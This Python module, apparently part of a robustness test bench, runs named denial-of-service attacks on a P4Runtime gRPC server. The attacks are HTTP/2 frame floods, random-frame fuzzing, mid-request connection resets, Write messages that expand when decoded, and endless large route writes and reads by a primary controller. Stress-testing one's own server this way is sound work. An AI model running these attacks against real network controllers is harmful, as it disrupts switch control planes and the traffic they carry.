# SPDX-License-Identifier: Apache-2.0
"""One attack on a P4Runtime server, as fast as it goes, until it is ended: `python -m ... NAME ADDRESS`. Prints
`attacking` once it is under way. It goes on after any reaction of the server."""

from __future__ import annotations

import contextlib
import itertools
import random
import socket
import struct
import sys
import threading
from collections import deque
from collections.abc import Callable, Iterator
from functools import partial

import grpc

from weir.p4runtime.client import Client, Update
from weir.p4runtime.entities import Call, Lpm, TableEntry
from weir.p4runtime.messages import v1
from weirlab.bench.hostile import http2

FRAMES = 2_000
PIECE_BYTES = 16 << 10
HELD = 8
"""Connections that each attacker keeps open: who is refused comes back by another."""
THREADS = 4
ROUTES = 8_000
"""Of a large Write; those that Reads ask for."""
PATH = "/p4.v1.P4Runtime/"
ELECTION_ID = 7


def pieces(words: Iterator[bytes]) -> list[bytes]:
    """The same bytes in fewer pieces, made once: a flood is to cost the server more than us."""
    found, piece = [], bytearray()
    for some in words:
        piece += some
        if len(piece) >= PIECE_BYTES:
            found.append(bytes(piece))
            piece.clear()
    return [*found, bytes(piece)]


def connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=5)


def flood(words: Callable[[int], Iterator[bytes]], address: str) -> Iterator[None]:
    """Frames until the server shows the door, or takes no more; then again."""
    ready = pieces(words(FRAMES))
    held: deque[socket.socket] = deque()
    while True:
        with contextlib.suppress(OSError):
            sock = connect(address)
            held.append(sock)
            sock.settimeout(0.2)
            for piece in ready:
                sock.sendall(piece)
        while len(held) > HELD:
            held.popleft().close()
        yield


def noise(address: str) -> Iterator[None]:
    """Frames of every kind with random flags, streams and contents."""
    rest = random.Random(17)
    while True:
        with contextlib.suppress(OSError), connect(address) as sock:
            sock.settimeout(0.2)
            sock.sendall(http2.HELLO)
            for _ in range(20):
                payload = rest.randbytes(rest.choice([0, 1, 4, 5, 8, 300]))
                stream = rest.choice([0, 1, 3, 2, 2**31 - 1])
                sock.sendall(http2.frame(rest.randrange(12), rest.randrange(256), stream, payload))
        yield


def resets(address: str) -> Iterator[None]:
    """Connections that are reset with a request under way."""
    while True:
        with contextlib.suppress(OSError), connect(address) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            sock.sendall(http2.HELLO + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.READ))
        yield


def at_once(call: Callable[[], object]) -> Iterator[None]:
    """The same call by several threads, whatever is answered."""

    def forever() -> None:
        while True:
            with contextlib.suppress(grpc.RpcError):
                call()

    for _ in range(THREADS):
        threading.Thread(target=forever, daemon=True).start()
    yield
    threading.Event().wait()


def unary(address: str, name: str, message: bytes) -> Callable[[], object]:
    """A call with these bytes, each time on a thread's own connection."""
    mine = threading.local()

    def call() -> None:
        if not hasattr(mine, "channel"):
            mine.channel = grpc.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)])
        mine.channel.unary_unary(PATH + name, bytes, bytes)(message, timeout=60)

    return call


def bombs(address: str) -> Iterator[None]:
    """Writes of 1 MiB whose parts take two bytes on the wire and hundreds once they are decoded; refused."""
    yield from at_once(unary(address, "Write", b"\x1a\x02\x10\x01" + b"\x22\x00" * (500 << 10)))


def routes(client: Client, kind: str) -> bytes:
    """A Write of many routes to nowhere that is sent, as it is on the wire."""
    hop = Call("set_next_hop", {"next_hop": 0})
    entries = (
        TableEntry("ipv4_lpm", {"hdr.ipv4.dst": Lpm(0x64000000 + (n << 8), 24)}, hop if kind == "INSERT" else None)
        for n in range(ROUTES)
    )
    update = {"INSERT": Update.insert, "DELETE": Update.delete}[kind]
    updates = [v1.Update(type=kind, entity=client._encode(n, update(entry))) for n, entry in enumerate(entries)]
    request = v1.WriteRequest(device_id=0, updates=updates)
    request.election_id.low = ELECTION_ID
    return bytes(request.SerializeToString())


@contextlib.contextmanager
def in_charge(address: str) -> Iterator[Client]:
    with Client(address, election_id=ELECTION_ID) as client:
        client.become_primary()
        yield client


def writes(address: str) -> Iterator[None]:
    """A controller with the right to write that adds and removes thousands of routes, again and again."""
    with in_charge(address) as client:
        calls = [unary(address, "Write", routes(client, kind)) for kind in ("INSERT", "DELETE")]
        yield
        for call in itertools.cycle(calls):
            with contextlib.suppress(grpc.RpcError):
                call()


def reads(address: str) -> Iterator[None]:
    """Several that read thousands of entries, again and again."""
    with in_charge(address) as client:
        with contextlib.suppress(grpc.RpcError):  # they may be there already
            unary(address, "Write", routes(client, "INSERT"))()
        wanted = v1.ReadRequest(device_id=0)
        wanted.entities.add().table_entry.SetInParent()
        message = bytes(wanted.SerializeToString())
        channel = grpc.insecure_channel(address)
        stub = channel.unary_stream(PATH + "Read", bytes, bytes)
        yield from at_once(lambda: [len(part) for part in stub(message, timeout=60)])


ATTACKS: dict[str, Callable[[str], Iterator[None]]] = {
    **{each.__name__.replace("_", " "): partial(flood, each) for each in http2.FLOODS},
    "noise": noise,
    "resets": resets,
    "requests that grow": bombs,
    "large writes": writes,
    "large reads": reads,
}


def main(name: str, address: str) -> None:
    for number, _ in enumerate(ATTACKS[name](address)):
        if number == 0:
            print("attacking", flush=True)


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        main(*sys.argv[1:])
